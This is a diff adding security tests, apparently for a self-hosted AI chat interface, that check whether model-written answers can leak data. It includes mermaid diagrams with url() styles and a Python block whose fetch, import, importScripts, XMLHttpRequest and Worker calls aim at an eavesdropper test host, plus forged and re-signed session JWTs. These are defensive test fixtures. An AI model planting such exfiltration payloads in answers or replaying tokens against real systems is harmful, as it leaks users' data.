@@ -16,6 +16,7 @@ from pathlib import Path
 from typing import Any
 
 import httpx
+import jwt
 import pytest
 from playwright.sync_api import Browser, Locator, Page, expect
 
@@ -27,16 +28,18 @@ from tests.browser.pages import (
     ANSWER_MS,
     EMAIL,
     PASSWORD,
+    chat_of,
     enter,
     home,
     new_page,
     open_panel,
+    pictures,
     send,
     wait_for_round,
 )
 from tests.browser.running import Server, serve
 from tests.browser.shown import shown_files
-from tests.browser.tampering import FAR, change_answer
+from tests.browser.tampering import FAR, change_answer, with_origin
 from tests.browser.ways import SECRET
 from tests.ports import free_port
 from tests.standins.elsewhere import Elsewhere
@@ -204,7 +207,7 @@ def test_a_made_up_picture_carries_no_words_outside(person: Page, eve: Eavesdrop
         }""",
         list(words),
     )
-    assert eve.tells(*words) == [] and [path for path, _ in eve.requests if "heron" in path] == []
+    assert eve.tells(*words) == [] and herons(eve) == []
 
 
 @pytest.mark.attack
@@ -229,7 +232,86 @@ def test_html_of_an_answer_carries_no_words_outside(person: Page, eve: Eavesdrop
         }""",
         html,
     )
-    assert [path for path, _ in eve.requests if "heron" in path] == []
+    assert herons(eve) == []
+
+
+KEEP = """async (chat) => {
+    const headers = {Authorization: `Bearer ${localStorage.token}`, 'Content-Type': 'application/json'};
+    const made = await fetch('/api/v1/chats/new', {method: 'POST', headers, body: JSON.stringify({chat})});
+    return (await made.json()).id;
+}"""
+MODEL = """async () => {
+    const headers = {Authorization: `Bearer ${localStorage.token}`};
+    return (await (await fetch('/api/models', {headers})).json()).data[0].id;
+}"""
+
+
+def show(page: Page, eve: Eavesdropper, answer: str) -> None:
+    """Open a chat whose answer is this text."""
+    home(page, here(eve))
+    chat = page.evaluate(KEEP, chat_of(page.evaluate(MODEL), answer_text=answer))
+    home(page, here(eve), f"/c/{chat}")
+
+
+def herons(eve: Eavesdropper) -> list[str]:
+    return [path for path, _ in eve.requests if "heron" in path]
+
+
+DIAGRAMS = """```mermaid
+classDiagram
+    class Heron
+    style Heron fill:url(/heron-style)
+```
+
+```mermaid
+C4Context
+    Person(a, "A", "x")
+    Person(b, "B", "y")
+    UpdateElementStyle(a, $bgColor="url(/heron-fill)", $borderColor="url(/heron-stroke)")
+```"""
+
+
+@pytest.mark.attack
+def test_a_diagram_of_an_answer_carries_no_words_outside(person: Page, eve: Eavesdropper) -> None:
+    """It stands in the page while it is drawn, with styles that a model wrote."""
+    show(person, eve, DIAGRAMS)
+    expect(person.locator(".chat-assistant svg[id^='mermaid']")).to_have_count(2)
+    person.wait_for_timeout(500)
+    assert herons(eve) == []
+
+
+PYTHON = """```python
+import js, numpy
+scripts = [
+    "fetch('PLACE')",
+    "import('PLACE')",
+    "(async () => importScripts('PLACE'))()",
+    "new Promise((resolve, reject) => { const asked = new XMLHttpRequest(); asked.open('GET', 'PLACE');"
+    " Object.assign(asked, { onload: resolve, onerror: () => reject(new Error('x')) }); asked.send(); })",
+    "new Promise((resolve, reject) => { const script = `fetch('PLACE').then(() => postMessage(1), close)`;"
+    " const other = new Worker(URL.createObjectURL(new Blob([script])));"
+    " other.onmessage = resolve; setTimeout(() => reject(new Error('x')), 1000); })",
+]
+refused = 0
+for place in ("/pyodide/heron-by-name.js", "/pyodide/pyodide.mjs?heron-query", "/_app/immutable/workers/heron.js"):
+    for script in scripts:
+        try:
+            await js.eval(script.replace("PLACE", "SERVER" + place))
+        except Exception:
+            refused += 1
+print("refused", refused, "and", int(numpy.arange(4).sum()) * 7)
+```"""
+
+
+@pytest.mark.attack
+def test_python_of_an_answer_carries_no_words_outside(person: Page, eve: Eavesdropper) -> None:
+    """Not by the addresses of files that everybody may read, either; Python's own come by the page."""
+    show(person, eve, PYTHON.replace("SERVER", eve.url))
+    person.get_by_role("button", name="Run", exact=True).first.click()
+    output = person.locator("#stdout-output, .chat-assistant").filter(has_text="and 42").last
+    expect(output).to_contain_text("refused 15 and 42", timeout=60_000)
+    own = [path for path, _ in eve.requests if path.startswith("/pyodide/")]
+    assert eve.tells("heron-by-name", "heron-query", "workers/heron") == [] and len(own) == len(set(own))
 
 
 @pytest.mark.attack
@@ -283,6 +365,26 @@ def test_a_recorded_request_is_taken_once(person: Page, eve: Eavesdropper) -> No
     assert bodies
     again = httpx.post(f"{eve.upstream}{PATH}", content=bodies[-1], headers={"Content-Type": REQUEST_TYPE})
     assert again.status_code == 409
+
+
+@pytest.mark.attack
+def test_a_session_is_good_on_its_own_side_alone(person: Page, eve: Eavesdropper, requiring: Server) -> None:
+    """One of inside is used outside; one of outside, which whoever ends TLS could have read, inside."""
+    home(person, here(eve))
+    own = str(person.evaluate("localStorage.token"))
+    for headers in ({"Authorization": f"Bearer {own}"}, {"Cookie": f"token={own}"}):
+        for path in ("/api/v1/chats/?page=1", "/ws/socket.io/?EIO=4&transport=polling"):
+            assert httpx.get(f"{eve.url}{path}", headers=headers, verify=False).status_code == 403
+    key = (requiring.data / "secret_key_inside").read_bytes().strip()
+    claims = jwt.decode(own, key, algorithms=["HS256"])
+    assert claims.pop("channel") == "inside"
+    for more, status in (({"channel": "inside"}, 200), ({}, 401)):  # signed as well: the claim alone decides
+        other = jwt.encode(claims | more, key, algorithm="HS256")
+        person.evaluate("(token) => localStorage.setItem('token', token)", other)
+        assert fetch(person)[0] == status
+    person.reload()
+    expect(person.locator("input[type=email]")).to_be_visible(timeout=30_000)
+    assert eve.tells(other) == []
 
 
 def fetch(page: Page) -> Any:
@@ -454,6 +556,19 @@ def test_a_clock_that_is_wrong_is_said_with_how_much(person: Page, eve: Eavesdro
     )
     person.goto(eve.url)
     expect(toast(person, "clock is 10 minutes ahead")).to_be_visible(timeout=30_000)
+
+
+def test_the_own_page_of_a_service_says_that_it_could_have_been_changed(browser: Browser, eve: Eavesdropper) -> None:
+    """By the name of a service, a page cannot know who else answers for that name. The pictures in docs/images."""
+    page, url = new_page(browser), eve.url.replace("127.0.0.1", FAR)
+    change_answer(eve, "quote", lambda evidence: with_origin(evidence, url))  # as if it were launched for that name
+    page.goto(f"{url}/auth")
+    wait_for_round(page)
+    check = open_panel(page).locator("[data-check='binding.channel']")
+    expect(check).to_have_attribute("data-status", "warn")
+    expect(check).to_contain_text("whoever controls that name could have changed this page")
+    pictures(page, check, "channel")
+    page.context.close()
 
 
 def test_by_plain_http_nothing_is_heard_and_the_panel_says_who_could_have_changed_the_page(
